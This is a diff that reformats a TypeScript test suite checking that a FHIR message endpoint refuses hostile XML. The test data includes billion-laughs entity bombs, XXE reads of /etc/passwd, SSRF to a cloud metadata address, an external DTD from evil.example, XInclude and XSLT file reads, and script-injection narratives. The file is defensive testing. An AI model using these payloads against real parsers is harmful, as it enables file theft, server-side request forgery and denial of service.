@@ -28,7 +28,8 @@ const body = letter.replace(/^<\?xml[^>]*\?>\s*/, '');
 const prolog = '<?xml version="1.0" encoding="UTF-8"?>\n';
 /** The letter with `inner` placed inside its root, after the first child. */
 const inside = (inner: string) => body.replace(/(<Bundle[^>]*>)/, `$1${inner}`);
-const narrative = (inner: string) => body.replace('<div xmlns="http://www.w3.org/1999/xhtml">', `<div xmlns="http://www.w3.org/1999/xhtml">${inner}`);
+const narrative = (inner: string) =>
+  body.replace('<div xmlns="http://www.w3.org/1999/xhtml">', `<div xmlns="http://www.w3.org/1999/xhtml">${inner}`);
 const laughs = [
   '<!DOCTYPE Bundle [',
   '<!ENTITY lol "lol">',
@@ -38,10 +39,26 @@ const laughs = [
 
 const cases: Array<[name: string, xml: () => string, refusal: RegExp]> = [
   ['a billion laughs', () => `${prolog}${laughs}\n${inside('<x>&lol9;</x>')}`, /DOCTYPE and ENTITY/],
-  ['an external entity reading /etc/passwd', () => `${prolog}<!DOCTYPE Bundle [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${inside('<x>&xxe;</x>')}`, /DOCTYPE and ENTITY/],
-  ['an external entity over HTTP (SSRF)', () => `<!DOCTYPE Bundle [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]>${inside('&xxe;')}`, /DOCTYPE and ENTITY/],
-  ['a parameter entity with an external DTD', () => `<!DOCTYPE Bundle [<!ENTITY % dtd SYSTEM "http://evil.example/x.dtd"> %dtd;]>${body}`, /DOCTYPE and ENTITY/],
-  ['a public external DTD', () => `<!DOCTYPE Bundle PUBLIC "-//X//DTD X//EN" "http://evil.example/x.dtd">${body}`, /DOCTYPE and ENTITY/],
+  [
+    'an external entity reading /etc/passwd',
+    () => `${prolog}<!DOCTYPE Bundle [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${inside('<x>&xxe;</x>')}`,
+    /DOCTYPE and ENTITY/,
+  ],
+  [
+    'an external entity over HTTP (SSRF)',
+    () => `<!DOCTYPE Bundle [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]>${inside('&xxe;')}`,
+    /DOCTYPE and ENTITY/,
+  ],
+  [
+    'a parameter entity with an external DTD',
+    () => `<!DOCTYPE Bundle [<!ENTITY % dtd SYSTEM "http://evil.example/x.dtd"> %dtd;]>${body}`,
+    /DOCTYPE and ENTITY/,
+  ],
+  [
+    'a public external DTD',
+    () => `<!DOCTYPE Bundle PUBLIC "-//X//DTD X//EN" "http://evil.example/x.dtd">${body}`,
+    /DOCTYPE and ENTITY/,
+  ],
   ['a lower-case doctype with spacing', () => `<! doctype Bundle>${body}`, /DOCTYPE and ENTITY/],
   ['an ENTITY declaration without a DOCTYPE', () => inside('<!ENTITY x "y">'), /DOCTYPE and ENTITY/],
   ['an undeclared entity reference', () => inside('<x>&xxe;</x>'), /undeclared entity/],
@@ -53,13 +70,25 @@ const cases: Array<[name: string, xml: () => string, refusal: RegExp]> = [
   ['100 000 nested elements, unclosed', () => inside('<a>'.repeat(100_000)), /more than|nested deeper|not well-formed/],
   ['nesting just over the depth limit', () => inside(`${'<a>'.repeat(70)}${'</a>'.repeat(70)}`), /nested deeper/],
   ['a document over the size limit', () => inside(`<x value="${'A'.repeat(17 * 1024 * 1024)}"/>`), /larger than/],
-  ['200 000 attributes on one element', () => inside(`<x ${Array.from({ length: 200_000 }, (_, i) => `a${i}="1"`).join(' ')}/>`), /attributes on one element/],
+  [
+    '200 000 attributes on one element',
+    () => inside(`<x ${Array.from({ length: 200_000 }, (_, i) => `a${i}="1"`).join(' ')}/>`),
+    /attributes on one element/,
+  ],
   ['a million empty elements', () => inside('<a/>'.repeat(1_000_000)), /more than 100000 elements/],
   ['two million character references', () => inside(`<x value="${'&amp;'.repeat(2_000_000)}"/>`), /references/],
   ['two root elements', () => `${body}${body}`, /exactly one root|not well-formed/],
   ['an unclosed root', () => body.replace('</Bundle>', ''), /not well-formed/],
-  ['an XInclude of /etc/passwd', () => inside('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'), /outside the FHIR/],
-  ['an XSLT instruction', () => inside('<xsl:value-of xmlns:xsl="http://www.w3.org/1999/XSL/Transform" select="document(\'/etc/passwd\')"/>'), /outside the FHIR/],
+  [
+    'an XInclude of /etc/passwd',
+    () => inside('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'),
+    /outside the FHIR/,
+  ],
+  [
+    'an XSLT instruction',
+    () => inside('<xsl:value-of xmlns:xsl="http://www.w3.org/1999/XSL/Transform" select="document(\'/etc/passwd\')"/>'),
+    /outside the FHIR/,
+  ],
   ['a script in the narrative', () => narrative('<script>alert(1)</script>'), /txt-1/],
   ['an event handler in the narrative', () => narrative('<img src="x.png" onerror="alert(1)"/>'), /txt-1/],
   ['a javascript: link in the narrative', () => narrative('<a href=" javascript:alert(1)">Svar</a>'), /txt-1/],
@@ -104,7 +133,10 @@ describe('XML sent to POST /v1/messages', () => {
     ['application/fhir+xml', 415, 'unsupported-media-type'],
     ['application/xhtml+xml', 415, 'unsupported-media-type'],
   ])('a billion laughs as %s → %i %s', async (contentType, status, code) => {
-    const answer = await send(stack.url, { headers: { ...bearer(stack), 'Content-Type': contentType }, body: `${prolog}${laughs}\n${inside('&lol9;')}` });
+    const answer = await send(stack.url, {
+      headers: { ...bearer(stack), 'Content-Type': contentType },
+      body: `${prolog}${laughs}\n${inside('&lol9;')}`,
+    });
     await expectRefused(stack, before, answer, status, code);
   });
 
